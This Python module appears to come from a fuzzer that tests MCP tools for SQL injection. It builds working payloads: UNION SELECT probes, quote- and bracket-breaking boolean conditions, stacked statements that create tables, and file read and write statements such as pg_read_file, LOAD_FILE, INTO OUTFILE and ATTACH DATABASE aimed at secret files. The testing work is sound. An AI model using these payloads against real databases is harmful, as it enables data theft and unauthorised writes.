"""Text that a database takes for more than a value. Every statement only reads, computes, or makes a table or a
file that the case's canary names; none takes anything away.

A union brings a product that only the database can compute. A pair of conditions asks whether two random
numbers are equal: the texts differ in nothing else, so what tells them apart has evaluated them.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache

from mcpfuzz.model import Json
from mcpfuzz.strategies.payload import Payload

__all__ = ["PRODUCT", "Pair", "files", "is_statement", "paired", "pairs", "unions", "writes"]

PRODUCT = "{number:1}*{number:2}"
MOST_COLUMNS = 8
_STATEMENT = re.compile(
    r"^\W*(select|with|insert|update|delete|create|pragma|explain|show|describe|attach|copy|match|merge|call|from)\b.*\s",
    re.IGNORECASE | re.DOTALL,
)
_SELECT = re.compile(r"^\s*select\s+(\w+)[\s,].*?\bfrom\s+(\w+)", re.IGNORECASE | re.DOTALL)

CONTEXTS: tuple[tuple[str, str], ...] = (
    ("0'", "out of single quotes"),
    ("0", "behind a number"),
    ("0%'", "out of a LIKE pattern"),
    ('0"', "out of double quotes"),
    ("0')", "out of quotes and a bracket"),
    ("0)", "out of a bracket"),
    ("0%')", "out of a LIKE pattern and a bracket"),
    ("0'))", "out of quotes and two brackets"),
)
"""What ends the value, which matches nothing, so that a row of ours is the first one."""


@dataclass(frozen=True, slots=True)
class Pair:
    """Texts that are alike but for a condition; A and B stand for two random numbers, GOOD for the good value."""

    true: tuple[Json, Json]
    """The condition holds: as if nothing stood behind the value."""
    false: tuple[Json, Json]
    why: str
    rule: str = "sql-injection"


CONDITIONS: tuple[tuple[str, str], ...] = (
    ("GOOD' AND 'A'='B", "a condition out of single quotes"),
    ("GOOD AND A=B", "a condition behind a number"),
    ("GOOD%' AND 'A' LIKE 'B", "a condition out of a LIKE pattern"),
    ('GOOD" AND "A"="B', "a condition out of double quotes"),
    ("GOOD') AND ('A'='B", "a condition out of quotes and a bracket"),
    ("GOOD' AND 'A'='B'-- -", "a condition and a comment"),
    ("GOOD) AND (A=B", "a condition out of a bracket"),
    ("GOOD%') AND ('A' LIKE 'B", "a condition out of a LIKE pattern and a bracket"),
    ("GOOD')) AND (('A'='B", "a condition out of quotes and two brackets"),
)
"""Upper-case AND: what reads XPath does not know it."""


@lru_cache(maxsize=4096)
def pairs(base: str) -> tuple[Pair, ...]:
    """Conditions behind a good value, most likely first; none where the value is itself a statement."""
    if not base or is_statement(base):
        return ()
    plain = re.fullmatch(r"[\w.-]{1,60}", base)  # a filter that is meant to hold conditions looks otherwise
    return tuple(paired(text, why, base) for text, why in CONDITIONS if plain or '"' in text or "'" in text)


def paired(text: str, why: str, base: str) -> Pair:
    """Both ways round, both numbers: A=A and B=B hold, A=B and B=A do not."""
    made = {ways: _numbered(text, *ways).replace("GOOD", base) for ways in ("11", "22", "12", "21")}
    return Pair((made["11"], made["22"]), (made["12"], made["21"]), why)


def _numbered(text: str, one: str, other: str) -> str:
    return re.sub(r"\b[AB]\b", lambda sign: f"{{number:{one if sign[0] == 'A' else other}}}", text)


def is_statement(text: str) -> bool:
    """Whether a value is itself a statement: its tool takes statements on purpose."""
    return _STATEMENT.match(text) is not None


@lru_cache(maxsize=4096)
def unions(base: str) -> tuple[Payload, ...]:
    """Texts that bring a product into the answer, most likely first; none where the value is itself a statement."""
    if is_statement(base):
        return ()
    plain = [_union(context, [PRODUCT] * width) for width in range(1, MOST_COLUMNS + 1) for context in CONTEXTS[:3]]
    rest = [_union(context, [PRODUCT] * width) for width in range(1, MOST_COLUMNS + 1) for context in CONTEXTS[3:]]
    inline = [
        _computed(f"{base}'||({PRODUCT})||'", f"'||({PRODUCT})||'", "a product between two quoted pieces"),
        _computed(f"0'; SELECT {PRODUCT}-- -", f"SELECT {PRODUCT}", "a second statement out of single quotes"),
        _computed(f"0; SELECT {PRODUCT}-- -", f"SELECT {PRODUCT}", "a second statement behind a number"),
    ]
    return (*plain[:12], *inline, *plain[12:], *_typed(), *rest)


def _typed() -> Iterator[Payload]:
    """For databases whose columns have types: one text among NULLs."""
    for width in range(1, 5):
        for place in range(width):
            columns = ["NULL"] * width
            columns[place] = f"CAST({PRODUCT} AS CHAR(20))"
            yield from (_union(context, columns) for context in CONTEXTS[:2])


def _union(context: tuple[str, str], columns: list[str]) -> Payload:
    piece = f"UNION ALL SELECT {','.join(columns)}"
    words = f"a union of {len(columns)} column{'s'[: len(columns) - 1]} {context[1]}"
    return _computed(f"{context[0]} {piece}-- -", piece, words)


def _computed(text: str, piece: str, words: str) -> Payload:
    # what a tool that takes statements, or sums, on purpose would compute as well
    benign = f"SELECT {PRODUCT}" if "SELECT" in piece else PRODUCT
    return Payload(text, words, (piece,), "sql-injection", benign)


# ---- statements where a tool takes statements -------------------------------------------------------

MADE = "{watch}/{canary:1}"
NAME = "{canary:2}"
"""A name that is new: a letter and digits."""
FILES: tuple[tuple[str, str, str], ...] = (
    (f"ATTACH DATABASE '{MADE}.db' AS {NAME}", "a database attached", "file-write"),
    (f"SELECT 1; ATTACH DATABASE '{MADE}.db' AS {NAME}", "a database attached behind a semicolon", "file-write"),
    (f"VACUUM INTO '{MADE}.db'", "a copy of the database", "file-write"),
    (f"COPY (SELECT 1) TO '{MADE}.csv'", "a result copied to a file", "file-write"),
    ("SELECT * FROM read_text('{outside}/secret.txt')", "a function that reads files", "path-traversal"),
    ("SELECT * FROM '{outside}/secret.csv'", "a file taken for a table", "path-traversal"),
    (
        "SELECT * FROM read_csv_auto('{outside}/secret.csv', header=false)",
        "a function that reads files", "path-traversal",
    ),
    (
        f"SELECT 1; ATTACH DATABASE '{{outside}}/other.db' AS {NAME}; SELECT value FROM {NAME}.secret",
        "another database attached and read", "path-traversal",
    ),
    ("SELECT CAST(readfile('{outside}/secret.txt') AS TEXT)", "a function that reads files", "path-traversal"),
    ("SELECT pg_read_file('{outside}/secret.txt')", "a function that reads files", "path-traversal"),
    ("SELECT LOAD_FILE('{outside}/secret.txt')", "a function that reads files", "path-traversal"),
    ("SELECT * FROM sqlite_scan('{outside}/other.db', 'secret')", "another database scanned", "path-traversal"),
    ("LOAD CSV FROM 'file://{outside}/secret.csv' AS row RETURN row", "a file loaded", "path-traversal"),
    (f"SELECT writefile('{MADE}', 'x')", "a function that writes files", "file-write"),
    (f"SELECT 1 INTO OUTFILE '{MADE}'", "a result put into a file", "file-write"),
    (f"EXPORT DATABASE '{MADE}'", "the database exported", "file-write"),
    (f"SELECT 1; VACUUM INTO '{MADE}.db'", "a copy of the database behind a semicolon", "file-write"),
    (f"SELECT 1; COPY (SELECT 1) TO '{MADE}.csv'", "a result copied behind a semicolon", "file-write"),
    (f"CREATE TABLE {NAME}(a int); ATTACH DATABASE '{MADE}.db' AS {NAME}", "a database attached behind a table",
     "file-write"),
    ("SELECT * FROM read_json_auto('{outside}/secret.json')", "a function that reads files", "path-traversal"),
    ("SELECT * FROM glob('{outside}/*')", "a function that lists files", "path-traversal"),
    (f"GOOD'; ATTACH DATABASE '{MADE}.db' AS {NAME}-- -", "a database attached out of single quotes", "file-write"),
    (f"GOOD; ATTACH DATABASE '{MADE}.db' AS {NAME}-- -", "a database attached behind the value", "file-write"),
)  # fmt: skip
"""(template, words, rule): files that a database reads and writes, in the words of several databases."""


@lru_cache(maxsize=4096)
def files(base: str) -> tuple[Payload, ...]:
    """Statements that read a decoy or make a file, most likely first."""
    made = []
    for template, words, rule in FILES:
        aimed = re.findall(r"\{(?:outside|watch)\}[^']*", template)
        made.append(Payload(template.replace("GOOD", base), words, tuple(aimed), rule))
    return tuple(made)


TABLE = "{canary:1}"
MAKE = f"CREATE TABLE {TABLE}(a int)"
WRITES: tuple[tuple[str, str], ...] = (
    (f"SELECT 1; {MAKE}", "a table made behind a semicolon"),
    (MAKE, "a table made"),
    (f"COMMIT; {MAKE}", "a table made after the transaction is ended"),
    (f"SELECT 1 AS a INTO {TABLE}", "a selection put into a new table"),
    (f"EXPLAIN ANALYZE CREATE TABLE {TABLE} AS SELECT 1 AS a", "a table made by what is explained"),
    (f"/* SELECT */ {MAKE}", "a table made behind a comment"),
    (f"-- SELECT\n{MAKE}", "a table made behind a comment line"),
    (f"SELECT 1; COMMIT; {MAKE}", "a table made after the transaction is ended"),
    (f"SELECT 1;\n\n{MAKE};", "a table made on another line"),
    (f"WITH t AS (SELECT 1) SELECT * FROM t; {MAKE}", "a table made behind WITH and a semicolon"),
    (f"SET TRANSACTION READ WRITE; {MAKE}", "a table made after the transaction is opened for writing"),
    (f"EXPLAIN SELECT 1; {MAKE}", "a table made behind EXPLAIN and a semicolon"),
    (f"CREATE TABLE {TABLE} AS SELECT 1 AS a", "a table made of a selection"),
    (f"CREATE VIEW {TABLE} AS SELECT 1 AS a", "a view made"),
    (f"SELECT 1; CREATE VIEW {TABLE} AS SELECT 1 AS a", "a view made behind a semicolon"),
)
READINGS = (
    "SELECT name FROM sqlite_master ORDER BY rowid DESC LIMIT 90",
    "SELECT table_name FROM information_schema.tables WHERE table_schema NOT LIKE 'pg%' LIMIT 900",
)
"""What shows a new table: SQLite; DuckDB, PostgreSQL, MySQL."""


@lru_cache(maxsize=4096)
def writes(base: str) -> tuple[tuple[Payload, str], ...]:
    """(a statement that writes, one that shows what it wrote), most likely first."""
    made = [
        (Payload(text, words, (text,), "read-only-bypass"), reading) for text, words in WRITES for reading in READINGS
    ]
    match = _SELECT.match(base)
    if match:
        column, table = match.groups()
        row = f"INSERT INTO {table}({column}) SELECT a FROM t"
        text = f"WITH t(a) AS (SELECT '{TABLE}') {row}"
        shown = f"SELECT {column} FROM {table} WHERE {column} LIKE 'c%' LIMIT 90"
        made[2:2] = [(Payload(text, "a row put in behind WITH", (text,), "read-only-bypass"), shown)]
    return tuple(made)
